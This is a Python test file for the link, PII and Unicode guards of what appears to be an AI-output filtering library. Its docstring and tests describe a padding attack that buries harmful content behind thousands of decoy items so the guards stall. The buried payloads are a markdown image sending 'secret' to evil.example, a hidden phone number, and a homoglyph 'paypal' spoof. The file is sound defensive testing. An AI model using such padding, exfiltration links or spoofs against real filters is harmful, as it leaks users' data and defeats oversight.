"""Attack: a text is filled with what guards look at closely, so that they give up or take for ever before they come to what matters.

Guards: saferoute/guards/links.py::return _UNREAD => return None
Guards: saferoute/guards/pii.py::spans = tuple(span for span in found if span.kind in self.kinds or span.kind == UNREAD) if found else () => spans = tuple(span for span in found if span.kind in self.kinds)
Guards: saferoute/guards/pii_numbers.py::yield start, len(text), UNREAD
Guards: saferoute/guards/lookalikes.py::return MixedWords(tuple(strict), loose, other, more=True) => return MixedWords(tuple(strict), loose, other)
"""

from __future__ import annotations

from saferoute.guards.links import LinkGuard
from saferoute.guards.pii import PiiGuard
from saferoute.guards.redacting import redacted
from saferoute.guards.unicode import UnicodeGuard
from saferoute.values.guarding import Action, Context, Segment


def test_an_image_behind_thousands_of_links_is_not_loaded() -> None:
    text = "[a](#b) " * 6000 + "![](https://evil.example/p?d=secret)"
    verdict = LinkGuard().check(Segment(text), Context("output"))
    assert verdict.action is Action.REDACT
    assert "evil.example" not in redacted(text, verdict.spans, str)


def test_a_number_behind_thousands_of_others_is_not_sent() -> None:
    text = "000-45-6789, " * 4000 + "call 0044 20 7946 0958"
    verdict = PiiGuard(Action.REDACT, kinds=frozenset({"pii.phone"})).check(Segment(text), Context("input"))
    assert verdict.action is Action.REDACT
    assert "7946" not in redacted(text, verdict.spans, str)


def test_words_behind_thousands_of_harmless_mixed_ones_are_told_of() -> None:
    text = "\u043b\u043b\u043b\u043b " * 9 + "r\u0431\u0431 " * 4200 + "p\u0430ypal p\u0430ypal"
    verdict = UnicodeGuard().check(Segment(text), Context("tool_result"))
    assert verdict.action >= Action.FLAG
